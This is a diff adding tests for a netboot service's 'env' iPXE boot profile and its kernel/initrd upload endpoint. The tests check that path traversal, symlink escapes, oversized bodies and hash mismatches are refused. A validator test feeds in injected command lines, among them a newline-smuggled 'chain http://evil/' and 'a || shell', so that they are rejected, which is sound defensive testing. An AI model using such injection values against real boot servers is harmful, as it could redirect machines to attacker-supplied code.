@@ -1,0 +1,321 @@
+// The `env` netboot profile (a deployed system booted with its environment's own kernel over
+// HTTP) and the control endpoint's upload route that puts that kernel and initrd where the HTTP
+// role serves them: content-addressed, size-bounded, path-safe, written whole or not at all.
+
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { mkdir, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises';
+import { request } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { envBootSchema, serviceNodeConfigSchema } from '../../../src/lib/services/config.js';
+import { startControl } from '../../../src/lib/services/control.js';
+import { startHttpServer } from '../../../src/lib/services/http/server.js';
+import { bootScript } from '../../../src/lib/services/ipxe.js';
+import type { RoleContext, RunningRole } from '../../../src/lib/services/role.js';
+import { loopbackService, roleContext } from '../../helpers/service-config.js';
+
+const MAC = '00:16:3e:0a:00:02';
+const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
+const KERNEL = Buffer.from('a kernel image, for the test\n'.repeat(100));
+const INITRD = Buffer.from('an initrd\n'.repeat(50));
+const kernelPath = `envs/${sha(KERNEL)}/kernel`;
+const initrdPath = `envs/${sha(INITRD)}/initrd`;
+
+describe('env profile script', () => {
+  const config = serviceNodeConfigSchema.parse(
+    loopbackService({
+      roles: ['http'],
+      ports: { dhcp: 0, tftp: 0, http: 8080, dns: 0, events: 0 },
+      nodes: [{ mac: MAC, ip: '10.0.0.2', hostname: 'vm-s-1', fqdn: 'vm-s-1.s.kb.test' }],
+    }),
+  );
+  const node = config.nodes[0];
+
+  it('boots the uploaded kernel and initrd over HTTP with the given command line', () => {
+    const script = bootScript(
+      config,
+      {
+        ...node,
+        envBoot: { kernel: kernelPath, initrd: initrdPath, cmdline: 'root=/dev/vda1 console=ttyS0' },
+      },
+      'env',
+    );
+    assert.equal(
+      script,
+      [
+        '#!ipxe',
+        "# vm-s-1.s.kb.test (00:16:3e:0a:00:02): boot the deployed system with its environment's own kernel, over HTTP.",
+        'echo kabootstrap: vm-s-1 boots its deployed system',
+        `kernel http://127.0.0.1:8080/files/${kernelPath} initrd=initrd root=/dev/vda1 console=ttyS0`,
+        `initrd --name initrd http://127.0.0.1:8080/files/${initrdPath}`,
+        'boot',
+        '',
+      ].join('\n'),
+    );
+    // no deployment-environment arguments: the deployed system configures itself
+    assert.ok(!script.includes('kb.mac='));
+    assert.ok(!script.includes('sanboot'));
+  });
+
+  it('boots a kernel without initrd', () => {
+    const script = bootScript(
+      config,
+      { ...node, envBoot: { kernel: kernelPath, initrd: null, cmdline: 'root=/dev/vda1' } },
+      'env',
+    );
+    assert.match(
+      script,
+      new RegExp(`^kernel http://127.0.0.1:8080/files/${kernelPath} root=/dev/vda1$`, 'm'),
+    );
+    assert.ok(!script.includes('initrd'), script);
+  });
+
+  it('refuses a node with the env profile but nothing to boot', () => {
+    assert.throws(() => bootScript(config, node, 'env'), /env profile has no kernel/);
+    assert.throws(
+      () => serviceNodeConfigSchema.parse({ ...config, nodes: [{ ...node, profile: 'env' }] }),
+      /env profile needs envBoot/,
+    );
+  });
+
+  it('validates what the profile boots: uploaded env files only, a command line safe in a script', () => {
+    const ok = {
+      kernel: kernelPath,
+      initrd: initrdPath,
+      cmdline: 'root=/dev/vda1 console=ttyS0,115200n8 quiet',
+    };
+    assert.equal(envBootSchema.safeParse(ok).success, true);
+    for (const bad of [
+      { ...ok, kernel: 'deploy/vmlinuz' },
+      { ...ok, kernel: `envs/${sha(KERNEL)}/../../etc/passwd` },
+      { ...ok, kernel: `/envs/${sha(KERNEL)}/kernel` },
+      { ...ok, initrd: `envs/${sha(KERNEL)}/kernel` },
+      { ...ok, cmdline: 'root=/dev/vda1\nchain http://evil/' },
+      { ...ok, cmdline: 'root=$' + '{net0/ip}' },
+      { ...ok, cmdline: 'a || shell' },
+      { ...ok, cmdline: 'x'.repeat(2049) },
+    ]) {
+      assert.equal(envBootSchema.safeParse(bad).success, false, JSON.stringify(bad));
+    }
+  });
+});
+
+/** A raw PUT (fetch would normalise `..` and refuse some bodies), answering status and JSON. */
+function put(
+  port: number,
+  path: string,
+  body: Buffer | null,
+  headers: Record<string, string> = {},
+): Promise<{ status: number; body: { message?: string; [k: string]: unknown } }> {
+  return new Promise((resolve, reject) => {
+    const req = request({ host: '127.0.0.1', port, method: 'PUT', path, headers }, (res) => {
+      let text = '';
+      res.on('data', (d) => {
+        text += d;
+      });
+      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text ? JSON.parse(text) : {} }));
+    });
+    req.on('error', reject);
+    req.end(body ?? undefined);
+  });
+}
+
+describe('control endpoint: env boot files and the env profile', () => {
+  let dir: string;
+  let httpRoot: string;
+  let ctx: RoleContext;
+  let control: RunningRole;
+  let http: RunningRole;
+
+  before(async () => {
+    dir = await mkdtemp(join(tmpdir(), 'kb-env-profile-'));
+    httpRoot = join(dir, 'http');
+    await mkdir(httpRoot);
+    ctx = roleContext(
+      loopbackService({
+        roles: ['http'],
+        httpRoot,
+        uploadMaxBytes: 4096,
+        nodes: [{ mac: MAC, ip: '10.0.0.2', hostname: 'vm-s-1', fqdn: 'vm-s-1.s.kb.test' }],
+      }),
+    );
+    http = await startHttpServer(ctx);
+    control = await startControl(ctx, () => ['http', 'control']);
+  });
+  after(async () => {
+    await control.close();
+    await http.close();
+    await rm(dir, { recursive: true, force: true });
+  });
+
+  /** Every file under httpRoot, temporary ones included: what a refused upload must not leave. */
+  const tree = async () => (await readdir(httpRoot, { recursive: true })).sort();
+
+  it('stores a kernel and an initrd where the HTTP role serves them', async () => {
+    const k = await put(control.port, `/files/${kernelPath}`, KERNEL);
+    assert.equal(k.status, 201, k.body.message);
+    assert.deepEqual(k.body, { path: kernelPath, bytes: KERNEL.length, sha256: sha(KERNEL) });
+    assert.equal((await put(control.port, `/files/${initrdPath}`, INITRD)).status, 201);
+    const got = await fetch(`http://127.0.0.1:${http.port}/files/${kernelPath}`);
+    assert.equal(got.status, 200);
+    assert.deepEqual(Buffer.from(await got.arrayBuffer()), KERNEL);
+    assert.deepEqual(await readFile(join(httpRoot, initrdPath)), INITRD);
+    // if-none-match: * keeps the copy there; without it the same bytes are written again
+    assert.equal(
+      (await put(control.port, `/files/${kernelPath}`, KERNEL, { 'if-none-match': '*' })).status,
+      412,
+    );
+    assert.equal((await put(control.port, `/files/${kernelPath}`, KERNEL)).status, 201);
+  });
+
+  it('refuses paths outside envs/<sha256>/kernel|initrd, writing nothing', async () => {
+    const before = await tree();
+    const h = sha(KERNEL);
+    for (const path of [
+      '/files/../../etc/passwd',
+      `/files/envs/${h}/../../../x/kernel`,
+      `/files/envs/${h}/%2e%2e/kernel`,
+      `/files/envs/${h}%2fkernel`,
+      '/files//etc/passwd',
+      `/files//envs/${h}/kernel`,
+      `/files/envs/${h}/vmlinuz`,
+      `/files/envs/${h.toUpperCase()}/kernel`,
+      `/files/deploy/vmlinuz`,
+      `/files/envs/${h}/kernel/x`,
+    ]) {
+      const r = await put(control.port, path, KERNEL);
+      assert.equal(r.status, 403, `${path}: ${JSON.stringify(r.body)}`);
+      assert.match(
+        r.body.message ?? '',
+        /only envs\/<sha256 in lower-case hex>\/kernel or initrd may be uploaded/,
+      );
+    }
+    assert.deepEqual(await tree(), before);
+  });
+
+  it('refuses a body whose sha256 is not the path, writing nothing', async () => {
+    const before = await tree();
+    const other = Buffer.from('not the kernel the path names');
+    const r = await put(control.port, `/files/${kernelPath}`, other);
+    assert.equal(r.status, 400);
+    assert.match(r.body.message ?? '', /the body's sha256 is [0-9a-f]{64}, not the path's/);
+    assert.deepEqual(await tree(), before);
+    assert.deepEqual(await readFile(join(httpRoot, kernelPath)), KERNEL, 'the old file is untouched');
+  });
+
+  it('refuses a body over the size bound, declared or streamed, writing nothing', async () => {
+    const before = await tree();
+    const big = Buffer.alloc(5000, 1);
+    const path = `/files/envs/${sha(big)}/initrd`;
+    const declared = await put(control.port, path, big);
+    assert.equal(declared.status, 413);
+    assert.match(declared.body.message ?? '', /5000 bytes is over the 4096-byte upload limit/);
+    // chunked: no content-length, the bound is hit while reading
+    const streamed = await new Promise<{ status: number; message: string }>((resolve, reject) => {
+      const req = request(
+        {
+          host: '127.0.0.1',
+          port: control.port,
+          method: 'PUT',
+          path,
+          headers: { 'transfer-encoding': 'chunked' },
+        },
+        (res) => {
+          let text = '';
+          res.on('data', (d) => {
+            text += d;
+          });
+          res.on('end', () => resolve({ status: res.statusCode ?? 0, message: JSON.parse(text).message }));
+        },
+      );
+      req.on('error', reject);
+      req.write(big.subarray(0, 3000));
+      setTimeout(() => req.end(big.subarray(3000)), 50);
+    });
+    assert.equal(streamed.status, 413);
+    assert.match(streamed.message, /over the 4096-byte upload limit/);
+    await new Promise((r) => setTimeout(r, 50));
+    assert.deepEqual(await tree(), before);
+  });
+
+  it('serves nothing of a file being uploaded, and leaves nothing when the client goes away', async () => {
+    const before = await tree();
+    const body = Buffer.alloc(4000, 2);
+    const path = `/files/envs/${sha(body)}/kernel`;
+    let midway = -1;
+    await new Promise<void>((resolve) => {
+      const req = request({
+        host: '127.0.0.1',
+        port: control.port,
+        method: 'PUT',
+        path,
+        headers: { 'content-length': String(body.length) },
+      });
+      req.on('error', () => resolve());
+      req.write(body.subarray(0, 1000), () =>
+        setTimeout(async () => {
+          // a quarter of it is on the service node: the HTTP role has no such file yet
+          midway = (await fetch(`http://127.0.0.1:${http.port}${path}`)).status;
+          req.destroy();
+        }, 100),
+      );
+      req.on('close', () => resolve());
+    });
+    assert.equal(midway, 404);
+    await new Promise((r) => setTimeout(r, 200));
+    assert.deepEqual(await tree(), before);
+  });
+
+  it('does not follow a symlink planted under httpRoot out of it', async () => {
+    const outside = join(dir, 'outside');
+    await mkdir(outside);
+    const body = Buffer.from('escape');
+    await mkdir(join(httpRoot, 'envs'), { recursive: true });
+    await symlink(outside, join(httpRoot, 'envs', sha(body)));
+    const r = await put(control.port, `/files/envs/${sha(body)}/kernel`, body);
+    assert.equal(r.status, 403);
+    assert.match(r.body.message ?? '', /leaves the served root/);
+    assert.deepEqual(await readdir(outside), []);
+  });
+
+  it('switches a node to the env profile only with valid, uploaded files', async () => {
+    const url = `http://127.0.0.1:${control.port}/nodes/${MAC}/profile`;
+    const profile = (body: unknown) => fetch(url, { method: 'PUT', body: JSON.stringify(body) });
+    const env = { kernel: kernelPath, initrd: initrdPath, cmdline: 'root=/dev/vda1 console=ttyS0' };
+
+    const noEnv = await profile({ profile: 'env' });
+    assert.equal(noEnv.status, 400);
+    assert.match((await noEnv.json()).message, /^env: /);
+    const badCmdline = await profile({ profile: 'env', env: { ...env, cmdline: 'a\nb' } });
+    assert.equal(badCmdline.status, 400);
+    assert.match((await badCmdline.json()).message, /^env\.cmdline: only letters/);
+    const missing = Buffer.from('never uploaded');
+    const absent = await profile({ profile: 'env', env: { ...env, initrd: `envs/${sha(missing)}/initrd` } });
+    assert.equal(absent.status, 409);
+    assert.match((await absent.json()).message, /not uploaded \(PUT \/files\/envs\/.*\/initrd first\)/);
+    const envOnLocal = await profile({ profile: 'local', env });
+    assert.equal(envOnLocal.status, 400);
+    // nothing changed by the refusals
+    assert.equal(ctx.backend.getByMac(MAC)?.profile, 'deploy');
+
+    const ok = await profile({ profile: 'env', env });
+    assert.equal(ok.status, 200);
+    assert.deepEqual(await ok.json(), { mac: MAC, profile: 'env', env });
+    const script = await (await fetch(`http://127.0.0.1:${http.port}/boot/${MAC}.ipxe`)).text();
+    assert.ok(
+      script.includes(
+        `kernel http://127.0.0.1:${http.port}/files/${kernelPath} initrd=initrd root=/dev/vda1`,
+      ),
+      script,
+    );
+    assert.ok(
+      script.includes(`initrd --name initrd http://127.0.0.1:${http.port}/files/${initrdPath}`),
+      script,
+    );
+    // back to the deployment environment
+    assert.equal((await profile({ profile: 'deploy' })).status, 200);
+    assert.match(await (await fetch(`http://127.0.0.1:${http.port}/boot/${MAC}.ipxe`)).text(), /kb\.mac=/);
+  });
+});
